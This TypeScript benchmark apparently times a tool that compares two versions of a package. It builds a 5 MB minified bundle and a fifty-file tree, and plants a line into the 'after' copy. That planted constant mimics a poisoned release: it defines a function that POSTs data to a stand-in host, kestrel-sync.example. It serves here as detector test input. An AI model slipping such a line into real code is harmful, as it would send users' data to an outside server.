/**
 * Facts of both sides of an update: of a bundle of 5 MB in one line against what the parser alone needs for the same two
 * texts, and of two trees of fifty files against node's own start.
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { transformSync } from "esbuild";
import { compare } from "./measure.js";

const CHILD = fileURLToPath(new URL("./facts-child.js", import.meta.url));
const MODULES = fileURLToPath(new URL("../../node_modules/", import.meta.url));
const SIZE = 5_000_000;
const ROUNDS = 3;
/** What a poisoned release puts somewhere in the middle. */
const PLANTED = "globalThis.sent=m=>fetch('https://kestrel-sync.example/x',{method:'POST',body:JSON.stringify(m)});";

export async function benchFacts(folder: string): Promise<string> {
  const bundle = writeBundle(folder);
  const trees = writeTrees(folder);
  const child = (what: string, pair: readonly [string, string]): readonly [string, ...string[]] => [
    process.execPath,
    CHILD,
    what,
    ...pair,
  ];
  const results = await compare(
    [
      { label: "node", argv: child("nothing", bundle) },
      { label: "parse", argv: child("parse", bundle) },
      { label: "facts", argv: child("facts", bundle) },
      { label: "trees", argv: child("facts", trees) },
    ],
    ROUNDS,
  );
  const cpu = (label: string): number => (results.get(label)?.cpu ?? Number.NaN) - (results.get("node")?.cpu ?? 0);
  const memory = Number(execFileSync(process.execPath, [CHILD, "facts", ...bundle], { encoding: "utf8" }));
  const ms = (label: string): string => `${cpu(label).toFixed(0)} ms`;
  return [
    `facts of both sides, node ${process.version}, medians of ${ROUNDS} in turn, CPU beyond node's own start`,
    `  parser alone, 5 MB in one line, twice   ${ms("parse")}`,
    `  facts of the same two                   ${ms("facts")}, ${memory} MB at most`,
    `  facts / parser alone = ${(cpu("facts") / cpu("parse")).toFixed(2)} (goal: at most 2.5, and 700 MB)`,
    `  facts of two trees of 50 files          ${ms("trees")} (goal: at most 150 ms)`,
  ].join("\n");
}

/** Libraries that are at hand, minified and put after one another under names of their own. */
function writeBundle(folder: string): readonly [string, string] {
  const parts = [
    "@babel/parser/lib/index.js",
    "acorn/dist/acorn.js",
    "yaml/browser/dist/index.js",
    "semver/classes/range.js",
  ]
    .map((path) => join(MODULES, path))
    .filter((path) => statSync(path, { throwIfNoEntry: false }) !== undefined)
    .map((path) => transformSync(readFileSync(path, "utf8"), { minify: true, format: "cjs" }).code.trim());
  let text = "";
  for (let i = 0; text.length < SIZE; i++) {
    text += `var m${i}=(exports,module,require)=>{${parts[i % parts.length]?.replaceAll("\n", " ")}};`;
  }
  const middle = text.indexOf("};var ", SIZE / 2) + 2;
  return pairOf(folder, "bundle", text, text.slice(0, middle) + PLANTED + text.slice(middle));
}

function pairOf(folder: string, name: string, before: string, after: string): readonly [string, string] {
  return [
    ["before", before],
    ["after", after],
  ].map(([side = "", text = ""]) => {
    const path = join(folder, name, side);
    mkdirSync(path, { recursive: true });
    writeFileSync(join(path, "index.js"), text);
    return path;
  }) as unknown as readonly [string, string];
}

/** Fifty files of an installed package, and the same with five of them changed. */
function writeTrees(folder: string): readonly [string, string] {
  const lib = join(MODULES, "@npmcli/arborist/lib");
  const files = readdirSync(lib, { recursive: true, encoding: "utf8" })
    .filter((path) => path.endsWith(".js"))
    .slice(0, 50);
  const pair = [join(folder, "trees", "before"), join(folder, "trees", "after")] as const;
  for (const side of pair) {
    mkdirSync(side, { recursive: true });
    files.forEach((path, i) => {
      const text = readFileSync(join(lib, path), "utf8");
      const changed = side === pair[1] && i % 10 === 0 ? `${text}\nmodule.exports.again = () => '${i}'\n` : text;
      writeFileSync(join(side, path.replaceAll("/", "-")), changed);
    });
  }
  return pair;
}
